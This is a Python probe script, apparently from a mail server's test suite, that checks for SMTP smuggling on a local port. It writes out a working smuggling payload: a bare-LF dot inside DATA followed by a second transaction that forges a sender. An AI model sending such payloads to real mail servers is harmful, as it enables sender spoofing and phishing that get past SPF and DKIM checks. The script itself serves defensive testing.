# smuggle.py - SMTP smuggling probe: one SMTP transaction whose DATA holds `\n.\r\n` followed
# by a second MAIL/RCPT/DATA. A server that ends DATA at a bare-LF dot splits it into two
# messages (the second, "smuggle-inner", from a sender the client never sent MAIL FROM for);
# one that requires CRLF.CRLF keeps it as one message ("smuggle-outer" with the rest as body).
# usage: smuggle.py PORT CLIENT_ADDR   (XCLIENT makes the client look external)
# Prints the server's replies; exits 0 when the transaction was answered.
import socket, sys

port, addr = int(sys.argv[1]), sys.argv[2]
s = socket.create_connection(("127.0.0.1", port), timeout=30)
f = s.makefile("rb")

def reply():
    lines = []
    while True:
        line = f.readline().decode("latin-1").rstrip("\r\n")
        print("<", line)
        lines.append(line)
        if len(line) < 4 or line[3] != "-":
            return lines

def cmd(text):
    print(">", text)
    s.sendall(text.encode() + b"\r\n")
    return reply()

reply()
cmd("EHLO mail.client.example.com")
cmd(f"XCLIENT ADDR={addr} NAME=unknown HELO=mail.client.example.com")
cmd("EHLO mail.client.example.com")
cmd("MAIL FROM:<user@dkim.example>")
cmd("RCPT TO:<rcpt@dest.example>")
if not cmd("DATA")[-1].startswith("354"):
    sys.exit(1)
payload = (b"From: Sender <user@dkim.example>\r\nTo: rcpt@dest.example\r\nSubject: smuggle-outer\r\n"
           b"Message-ID: <smuggle-outer@dkim.example>\r\n\r\nouter body\n.\r\n"
           b"MAIL FROM:<admin@spf-pass.example.com>\r\nRCPT TO:<rcpt@dest.example>\r\nDATA\r\n"
           b"From: Admin <admin@spf-pass.example.com>\r\nTo: rcpt@dest.example\r\n"
           b"Subject: smuggle-inner\r\n\r\nsmuggled\r\n.\r\n")
s.sendall(payload)
# One reply per transaction the server saw: read until QUIT is answered.
s.sendall(b"QUIT\r\n")
while True:
    line = f.readline().decode("latin-1").rstrip("\r\n")
    if not line:
        break
    print("<", line)
    if line.startswith("221"):
        break
